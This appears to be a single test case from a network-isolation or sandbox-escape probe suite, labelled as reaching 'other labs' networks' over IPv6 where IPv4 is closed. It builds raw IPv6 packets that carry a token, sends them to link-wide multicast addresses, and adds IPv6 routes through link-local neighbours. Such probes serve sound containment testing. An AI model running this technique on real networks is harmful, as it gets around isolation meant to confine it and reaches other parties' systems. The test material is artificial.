# Category: other labs' networks (ARP, routing, VXLAN, IPv6)
# Escape: goes by IPv6 where IPv4 is closed: to everybody on the link, or as a router that announces itself.
# Sign: neighbour
packets <<'PYTHON'
def ipv6(target, payload): return struct.pack("!IHBB16s16s", 6 << 28, len(payload), 17, 255, socket.inet_pton(10, "fe80::7"), socket.inet_pton(10, target)) + payload
for target in ("ff02::1", "ff02::2", "ff05::2", "2001:db8::7"): frames(ipv6(target, udp(9, 9, token)), 0x86dd, ["33:33:00:00:00:01"])
PYTHON
for number in 1 2 3; do ip -6 route add "2001:db8:$number::/64" via "fe80::$number" dev eth0 2>/dev/null; done
true
